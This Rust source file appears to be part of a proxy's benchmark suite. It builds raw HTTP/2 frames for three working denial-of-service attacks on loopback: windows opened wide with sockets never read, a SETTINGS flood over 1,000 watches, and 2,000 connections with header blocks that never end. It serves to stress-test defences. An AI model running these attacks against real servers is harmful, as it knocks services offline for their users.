//! The attacks of bench/attacks.rs written as raw HTTP/2 frames: clients that open their windows
//! wide and never read, a SETTINGS flood over a connection of watches, and header blocks never
//! ended (issue 58).

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// A raw HTTP/2 connection from source address `from` (a loopback address of its own, so that
/// per-client limits and holds see many clients), its receive buffer small: the preface and
/// `hello` written, then held.
async fn raw_h2(to: SocketAddr, from: std::net::Ipv4Addr, hello: &[u8]) -> Option<TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4().ok()?;
    let _ = socket.set_recv_buffer_size(4096);
    socket.bind(SocketAddr::from((from, 0))).ok()?;
    let mut conn = socket.connect(to).await.ok()?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend_from_slice(hello);
    conn.write_all(&bytes).await.ok()?;
    Some(conn)
}

/// One HTTP/2 frame.
fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    let mut f = vec![len[1], len[2], len[3], kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A GET of `path` as a header block: static indices and raw literals.
fn h2_get(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
    block.extend_from_slice(path.as_bytes());
    block.extend_from_slice(&[0x01, 13]);
    block.extend_from_slice(b"skewgate.test");
    block
}

/// 40 addresses, each one connection with 100 GETs of the 4 MB LIST, its windows opened to 2^31-1
/// (SETTINGS and WINDOW_UPDATE), its socket never read: only the sockets hold the proxy back.
pub fn wide_open_non_readers(
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    n: Arc<AtomicU64>,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        let mut hello = h2_frame(0x4, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
        hello.extend(h2_frame(
            0x8,
            0,
            0,
            &(i32::MAX as u32 - 65_535).to_be_bytes(),
        ));
        for i in 0..100u32 {
            let get = h2_get("/api/v1/namespaces/big/configmaps");
            hello.extend(h2_frame(0x1, 0x5, 2 * i + 1, &get));
        }
        let mut held = Vec::new();
        for a in 0..40u8 {
            if let Some(c) = raw_h2(addr, std::net::Ipv4Addr::new(127, 0, 1, a + 1), &hello).await {
                held.push(c);
                n.fetch_add(100, Ordering::Relaxed);
            }
        }
        while !stop.load(Ordering::Relaxed) {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    })
}

/// One connection with 1,000 watches, alternating SETTINGS_INITIAL_WINDOW_SIZE as fast as it can
/// (its acknowledgements read and dropped, so that the proxy goes on reading).
pub fn settings_over_watches(
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    n: Arc<AtomicU64>,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        let mut hello = h2_frame(0x4, 0, 0, &[]);
        for i in 0..1000u32 {
            let get = h2_get("/api/v1/namespaces/default/configmaps?watch=1");
            hello.extend(h2_frame(0x1, 0x5, 2 * i + 1, &get));
        }
        let Some(conn) = raw_h2(addr, std::net::Ipv4Addr::new(127, 0, 2, 1), &hello).await else {
            return;
        };
        let (mut rd, mut wr) = conn.into_split();
        tokio::spawn(async move {
            let mut sink = vec![0u8; 64 << 10];
            while rd.read(&mut sink).await.is_ok_and(|r| r > 0) {}
        });
        let mut batch = Vec::new();
        for i in 0..500u32 {
            let size = if i % 2 == 0 { 0u32 } else { 65_535 };
            let mut payload = vec![0, 4];
            payload.extend_from_slice(&size.to_be_bytes());
            batch.extend(h2_frame(0x4, 0, 0, &payload));
        }
        while !stop.load(Ordering::Relaxed) {
            if wr.write_all(&batch).await.is_err() {
                return;
            }
            n.fetch_add(500, Ordering::Relaxed);
        }
    })
}

/// 2,000 connections, each with a header block of ~100 KB begun (HEADERS and six CONTINUATION
/// frames without END_HEADERS) and never ended.
pub fn unfinished_header_blocks(
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    n: Arc<AtomicU64>,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        let mut hello = h2_frame(0x4, 0, 0, &[]);
        let mut block = vec![0x82, 0x86, 0x00, 5];
        block.extend_from_slice(b"x-big");
        let mut rest = 7 * 16_384u32 - 127;
        block.push(0x7f);
        while rest >= 128 {
            block.push((rest % 128) as u8 | 0x80);
            rest /= 128;
        }
        block.push(rest as u8);
        hello.extend(h2_frame(0x1, 0, 1, &block));
        for _ in 0..6 {
            hello.extend(h2_frame(0x9, 0, 1, &vec![b'a'; 16_384]));
        }
        let mut held = Vec::new();
        for i in 0..2000u32 {
            if stop.load(Ordering::Relaxed) {
                break;
            }
            let from = std::net::Ipv4Addr::new(127, 0, 3 + (i / 250) as u8, 1 + (i % 250) as u8);
            if let Some(c) = raw_h2(addr, from, &hello).await {
                held.push(c);
                n.fetch_add(1, Ordering::Relaxed);
            }
        }
        while !stop.load(Ordering::Relaxed) {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    })
}
